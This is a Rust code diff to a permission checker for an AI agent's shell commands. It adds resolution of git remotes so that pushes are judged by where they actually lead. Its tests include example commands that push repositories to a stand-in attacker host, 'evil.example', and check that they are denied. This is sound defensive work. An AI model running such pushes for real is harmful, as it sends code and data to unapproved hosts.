@@ -5,7 +5,9 @@
 //! the kernel's rules are enough.
 
 use super::{
-    Call, Class, Contact, Judgement, Reach, Verdict,
+    Call, Class, Contact, Judgement, Reach, Remote, Verdict,
+    builtin::{self, Kind},
+    call::KnownRemote,
     judge::{allow, deny, list, needs_person, not_allowed, off_limits, text_at},
     paths::{self, Access},
     place::{Place, Standing, host, standing},
@@ -22,8 +24,22 @@ const OWN_VERBS: &[&str] = &["confirm", "hook", "release", "reload"];
 /// Where requests that write name their owner in ways that no shell shows.
 const GIT_APIS: &[&str] = &["api.github.com", "uploads.github.com", "gitlab.com"];
 
+/// The remotes that a call writes to and only names: their repositories know where they lead.
+pub fn remotes(call: &Call) -> Vec<Remote> {
+    let Some(Kind::Shell(keys)) = builtin::kind(&call.tool) else {
+        return Vec::new();
+    };
+    let command = text(call, keys).filter(|command| command.len() <= LONGEST);
+    let Some(command) = command else {
+        return Vec::new();
+    };
+    let mut remotes = reach(&command, call.cwd.as_deref()).remotes;
+    remotes.retain(|remote| remote.writes);
+    remotes
+}
+
 pub(super) fn judge(policy: &Policy, call: &Call, keys: &[&str]) -> Judgement {
-    let Some(command) = keys.iter().find_map(|key| text_at(&call.input, key)) else {
+    let Some(command) = text(call, keys) else {
         let text = format!(
             "the arguments of {} hold no command that can be read; write it as text",
             quote(&call.tool)
@@ -37,11 +53,38 @@ pub(super) fn judge(policy: &Policy, call: &Call, keys: &[&str]) -> Judgement {
         );
         return deny(Class::Shell, "command-too-long", text);
     }
-    let reach = reach(&command, call.cwd.as_deref());
+    let mut reach = reach(&command, call.cwd.as_deref());
+    follow_remotes(call, &mut reach);
     let judgement = of_reach(policy, call, &command, &reach);
     Judgement {
         hosts: hosts(&reach),
         ..judgement
+    }
+}
+
+/// The command of a call. Only one key is right for a tool; a second one is not left unread.
+fn text(call: &Call, keys: &[&str]) -> Option<String> {
+    let texts: Vec<_> = keys
+        .iter()
+        .filter_map(|key| text_at(&call.input, key))
+        .collect();
+    (!texts.is_empty()).then(|| texts.join("\n"))
+}
+
+/// Puts the places of named remotes beside those that the command writes out.
+fn follow_remotes(call: &Call, reach: &mut Reach) {
+    for remote in reach.remotes.iter().filter(|remote| remote.writes) {
+        let is_it =
+            |known: &&KnownRemote| known.name == remote.name && known.directory == remote.directory;
+        if let Some(known) = call.remotes.iter().find(is_it) {
+            let contacts = known.urls.iter().flat_map(|url| remote.contacts(url));
+            reach.contacts.extend(contacts);
+        } else {
+            reach.unclear.push(match remote.name.as_str() {
+                "" => "git: where the branch is pushed to stands in the repository".to_owned(),
+                name => format!("git: where the remote `{name}` leads stands in the repository"),
+            });
+        }
     }
 }
 
@@ -301,11 +344,7 @@ mod tests {
     )]
     fn check(command: &str, reach: Reach, expected: Option<&str>) {
         let policy = Policy::parse(POLICY, "p").unwrap();
-        let call = Call {
-            tool: "Bash".to_owned(),
-            input: json!({}),
-            cwd: None,
-        };
+        let call = Call::new("Bash", json!({}));
         let got = of_reach(&policy, &call, command, &reach);
         assert_eq!(got.reason.as_deref(), expected, "{reach:?}: {}", got.text);
         assert_eq!(got.verdict == Verdict::Allow, expected.is_none());
@@ -381,6 +420,78 @@ mod tests {
     }
 
     #[test]
+    fn a_remote_that_is_only_named_is_judged_by_where_it_leads() {
+        let policy = Policy::parse(POLICY, "p").unwrap();
+        let judged = |command: &str, urls: Option<&[&str]>| {
+            let mut call = Call::new("Bash", json!({ "command": command }));
+            for Remote {
+                name,
+                writes: _,
+                directory,
+            } in remotes(&call)
+            {
+                let urls = urls.into_iter().flatten();
+                call.remotes
+                    .extend(urls.clone().next().map(|_| KnownRemote {
+                        name,
+                        directory,
+                        urls: urls.map(ToString::to_string).collect(),
+                    }));
+            }
+            judge(&policy, &call, &["command"])
+        };
+        let reason = |command, url| judged(command, Some(&[url])).reason;
+        for command in ["git push", "git push origin main", "cd x && git push up"] {
+            assert_eq!(reason(command, "https://github.com/mine/x"), None);
+            let other = reason(command, "git@github.com:other/x");
+            assert_eq!(other.as_deref(), Some("git-owner"), "{command}");
+            let evil = reason(command, "https://evil.example/mine/x");
+            assert_eq!(evil.as_deref(), Some("name-denied"), "{command}");
+            assert_eq!(reason(command, "/srv/git/x"), None, "{command}");
+            let unknown = judged(command, None);
+            assert_eq!(unknown.verdict, Verdict::Allow);
+            assert!(
+                unknown
+                    .unclear
+                    .iter()
+                    .any(|it| it.contains("stands in the"))
+            );
+        }
+        let two = judged(
+            "git push origin",
+            Some(&["https://github.com/mine/x", "https://evil.example/x"]),
+        );
+        assert_eq!(two.hosts, ["github.com", "evil.example"]);
+        assert_eq!(two.reason.as_deref(), Some("name-denied"));
+        assert!(remotes(&Call::new("Bash", json!({ "command": "git fetch origin" }))).is_empty());
+        let asked = remotes(&Call::new(
+            "Bash",
+            json!({ "command": "git -C a -C b push" }),
+        ));
+        assert_eq!(asked[0].directory.as_deref(), Some("a/b"));
+    }
+
+    #[test]
+    fn branches_behind_a_repository_are_no_hosts() {
+        let policy = Policy::parse(POLICY, "p").unwrap();
+        for refs in [
+            "main:main",
+            "v1.2:refs/heads/v1.2",
+            "feature:refs/heads/feature",
+            "@:main",
+        ] {
+            let command = format!("git push https://github.com/mine/x {refs}");
+            let call = Call::new("Bash", json!({ "command": command }));
+            let got = judge(&policy, &call, &["command"]);
+            assert_eq!(got.reason, None, "{command}: {}", got.text);
+        }
+        let command = "git push https://github.com/mine/x https://evil.example/x";
+        let call = Call::new("Bash", json!({ "command": command }));
+        let got = judge(&policy, &call, &["command"]);
+        assert_eq!(got.reason.as_deref(), Some("name-denied"));
+    }
+
+    #[test]
     fn files_downloads_acts_and_the_environment() {
         let reads = |file: &str| Reach {
             reads: vec![file.to_owned()],
@@ -444,11 +555,7 @@ mod tests {
             unclear: vec!["$X".to_owned()],
             ..Reach::default()
         };
-        let call = Call {
-            tool: "Bash".to_owned(),
-            input: json!({}),
-            cwd: None,
-        };
+        let call = Call::new("Bash", json!({}));
         for (word, verdict) in [
             ("allow", Verdict::Allow),
             ("ask", Verdict::Ask),
@@ -471,11 +578,7 @@ mod tests {
     fn commands_that_cannot_be_read_are_denied() {
         let policy = Policy::parse(POLICY, "p").unwrap();
         let run = |input| {
-            let call = Call {
-                tool: "Bash".to_owned(),
-                input,
-                cwd: None,
-            };
+            let call = Call::new("Bash", input);
             judge(&policy, &call, &["command"]).reason
         };
         assert_eq!(run(json!({})).as_deref(), Some("no-command"));
